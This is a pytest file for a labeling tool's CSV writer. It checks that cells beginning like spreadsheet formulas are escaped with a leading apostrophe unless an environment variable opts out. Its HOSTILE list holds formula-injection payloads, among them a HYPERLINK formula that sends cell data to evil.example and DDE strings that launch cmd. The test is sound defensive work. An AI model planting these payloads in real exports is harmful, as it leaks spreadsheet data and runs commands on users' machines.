"""CSV outputs and a spreadsheet: a cell that starts like a formula (=, +, -, @, a tab, a CR) is written with a
leading "'" (the usual escaping), unless LLMLABEL_CSV_FORMULAS=keep."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from llmlabel.io.output import write_output

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a fullwidth "=": some spreadsheets take it too
]
PLAIN = ["-3.5", "+7", "-1e5", "a = b", " =1+1", "hello", "", "'already quoted"]


def _read(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_formula_cells_are_escaped_by_default(tmp_path, monkeypatch):
    monkeypatch.delenv("LLMLABEL_CSV_FORMULAS", raising=False)
    out = tmp_path / "o.csv"
    rows = [{"id": f"r{i}", "text": t, "label": "pos", "n": -1} for i, t in enumerate(HOSTILE + PLAIN)]
    rows[0]["=evil_column"] = "x"  # column names come from the input too
    write_output(out, rows)
    got = _read(out)
    assert [r["text"] for r in got] == ["'" + t for t in HOSTILE] + PLAIN
    assert all(r["n"] == "-1" for r in got)  # numbers are numbers
    assert "'=evil_column" in got[0]


def test_keep_writes_them_unchanged(tmp_path, monkeypatch):
    monkeypatch.setenv("LLMLABEL_CSV_FORMULAS", "keep")
    out = tmp_path / "o.csv"
    write_output(out, [{"id": "r0", "text": t} for t in HOSTILE])
    assert [r["text"] for r in _read(out)] == HOSTILE


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_other_formats_are_untouched(tmp_path, fmt, monkeypatch):
    monkeypatch.delenv("LLMLABEL_CSV_FORMULAS", raising=False)
    from llmlabel.io.rows import iter_rows

    out = tmp_path / f"o.{fmt}"
    write_output(out, [{"id": f"r{i}", "text": t} for i, t in enumerate(HOSTILE)])
    assert [r["text"] for r in iter_rows(out)] == HOSTILE


def test_the_audit_review_sheet_is_escaped(tmp_path, monkeypatch):
    monkeypatch.delenv("LLMLABEL_CSV_FORMULAS", raising=False)
    from llmlabel.auditing.exports import export_csv
    from llmlabel.results import Suspect

    recs = [
        Suspect(
            "=1+1", HOSTILE[0], "pos", "neg", 0.9, True, 0.9, 1, True, None, None, None, {}, {"a": {"label": "neg"}}
        )
    ]
    export_csv(tmp_path / "review.csv", recs)
    (row,) = _read(tmp_path / "review.csv")
    assert row["id"] == "'=1+1" and row["text"] == "'" + HOSTILE[0] and row["score"] == "0.9"
